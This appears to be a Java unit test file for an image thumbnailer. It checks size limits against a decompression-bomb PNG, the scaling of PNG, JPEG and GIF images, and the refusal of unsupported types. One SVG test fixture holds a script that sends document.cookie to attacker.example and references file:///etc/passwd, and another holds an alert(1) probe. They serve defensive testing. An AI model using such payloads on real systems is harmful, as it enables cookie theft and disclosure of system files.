package dev.baton.indexer.preview;

import static org.assertj.core.api.Assertions.assertThat;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ImageThumbnailTest {

    private static final long MIB = 1024 * 1024;

    private final Thumbnailer thumbnailer = new Thumbnailer(ThumbnailSettings.defaults());

    @TempDir
    Path dir;

    @Test
    void aPngDeclaring46000By46000PixelsIsRefusedFromItsHeaderWithoutAllocating() throws Exception {
        Path bomb = Files.write(dir.resolve("bomb.png"), Samples.pngDeclaring(46_000, 46_000));
        warmUpImageIo();
        AtomicReference<ThumbnailException> failure = new AtomicReference<>();

        long allocated = Samples.bytesAllocatedBy(() -> {
            try {
                thumbnailer.thumbnail(bomb, "image/png");
            } catch (ThumbnailException e) {
                failure.set(e);
            }
        });

        assertThat(failure.get()).isNotNull();
        assertThat(failure.get().reason()).isEqualTo(ThumbnailException.Reason.TOO_LARGE);
        assertThat(failure.get()).hasMessageContaining("46000x46000");
        assertThat(allocated).as("bytes allocated").isLessThan(8 * MIB);
    }

    @Test
    void aLargeLegalPngIsDecodedSubsampledAndScaledToTheFixedSize() throws Exception {
        Path png = Files.write(
                dir.resolve("large.png"),
                Samples.encode(Samples.halves(4000, 3000, BufferedImage.TYPE_INT_ARGB, Color.RED, Color.BLUE), "png"));
        warmUpImageIo();
        AtomicReference<Thumbnail> result = new AtomicReference<>();

        long allocated = Samples.bytesAllocatedBy(
                () -> result.set(thumbnailer.thumbnail(png, "image/png").orElseThrow()));

        // decoded in full this image is 48 MB of pixels
        assertThat(allocated).as("bytes allocated").isLessThan(20 * MIB);
        assertThat(result.get().width()).isEqualTo(480);
        assertThat(result.get().height()).isEqualTo(360);
        BufferedImage image = Samples.decode(result.get());
        assertThat(Samples.count(image, 0, 0, 236, 360, Samples::reddish)).isEqualTo(236 * 360);
        assertThat(Samples.count(image, 244, 0, 480, 360, Samples::bluish)).isEqualTo(236 * 360);
    }

    @Test
    void aJpegIsScaledToTheFixedSize() throws Exception {
        Path jpeg = Files.write(
                dir.resolve("photo.jpg"),
                Samples.encode(Samples.halves(600, 800, BufferedImage.TYPE_INT_RGB, Color.RED, Color.BLUE), "jpeg"));

        Thumbnail thumbnail = thumbnailer.thumbnail(jpeg, "image/jpeg").orElseThrow();

        assertThat(thumbnail.width()).isEqualTo(360);
        assertThat(thumbnail.height()).isEqualTo(480);
        BufferedImage image = Samples.decode(thumbnail);
        assertThat(Samples.count(image, 10, 10, 170, 470, Samples::reddish)).isEqualTo(160 * 460);
        assertThat(Samples.count(image, 190, 10, 350, 470, Samples::bluish)).isEqualTo(160 * 460);
    }

    @Test
    void aGifIsScaledToTheFixedSize() throws Exception {
        Path gif = Files.write(
                dir.resolve("banner.gif"),
                Samples.encode(
                        Samples.halves(960, 480, BufferedImage.TYPE_BYTE_INDEXED, Color.RED, Color.BLUE), "gif"));

        Thumbnail thumbnail = thumbnailer.thumbnail(gif, "image/gif").orElseThrow();

        assertThat(thumbnail.width()).isEqualTo(480);
        assertThat(thumbnail.height()).isEqualTo(240);
        BufferedImage image = Samples.decode(thumbnail);
        assertThat(Samples.count(image, 0, 0, 236, 240, Samples::reddish)).isEqualTo(236 * 240);
        assertThat(Samples.count(image, 244, 0, 480, 240, Samples::bluish)).isEqualTo(236 * 240);
    }

    @Test
    void anImageSmallerThanTheFixedSizeKeepsItsSizeAndTransparency() throws Exception {
        BufferedImage logo = Samples.halves(120, 60, BufferedImage.TYPE_INT_ARGB, Color.RED, new Color(0, 0, 0, 0));
        Path png = Files.write(dir.resolve("logo.png"), Samples.encode(logo, "png"));

        Thumbnail thumbnail = thumbnailer.thumbnail(png, "image/png").orElseThrow();

        assertThat(thumbnail.width()).isEqualTo(120);
        assertThat(thumbnail.height()).isEqualTo(60);
        BufferedImage image = Samples.decode(thumbnail);
        assertThat(Samples.count(image, 0, 0, 60, 60, Samples::reddish)).isEqualTo(60 * 60);
        assertThat(Samples.count(image, 60, 0, 120, 60, argb -> Samples.alpha(argb) == 0))
                .isEqualTo(60 * 60);
    }

    @Test
    void theMediaTypeIsReadWithoutParametersAndCase() throws Exception {
        Path png = Files.write(
                dir.resolve("small.png"),
                Samples.encode(Samples.halves(10, 10, BufferedImage.TYPE_INT_RGB, Color.RED, Color.RED), "png"));

        assertThat(thumbnailer.thumbnail(png, "IMAGE/PNG; charset=binary")).isPresent();
    }

    @Test
    void anSvgWithAScriptGetsNoThumbnail() throws Exception {
        Path svg = Files.writeString(
                dir.resolve("evil.svg"),
                """
                <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
                  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
                  <image href="file:///etc/passwd" width="100" height="100"/>
                  <rect width="100" height="100" fill="red"/>
                </svg>
                """,
                StandardCharsets.UTF_8);

        assertThat(thumbnailer.supports("image/svg+xml")).isFalse();
        assertThat(thumbnailer.thumbnail(svg, "image/svg+xml")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/html",
                "text/plain",
                "application/zip",
                "application/octet-stream",
                "image/tiff",
                "video/mp4"
            })
    void typesWithoutAPreviewGetNoThumbnail(String mediaType) throws Exception {
        Path file = Files.writeString(dir.resolve("file"), "<html><script>alert(1)</script></html>");

        assertThat(thumbnailer.supports(mediaType)).isFalse();
        assertThat(thumbnailer.thumbnail(file, mediaType)).isEmpty();
    }

    private void warmUpImageIo() throws Exception {
        Path small = Files.write(
                dir.resolve("warm-up.png"),
                Samples.encode(Samples.halves(10, 10, BufferedImage.TYPE_INT_RGB, Color.RED, Color.RED), "png"));
        thumbnailer.thumbnail(small, "image/png");
    }
}
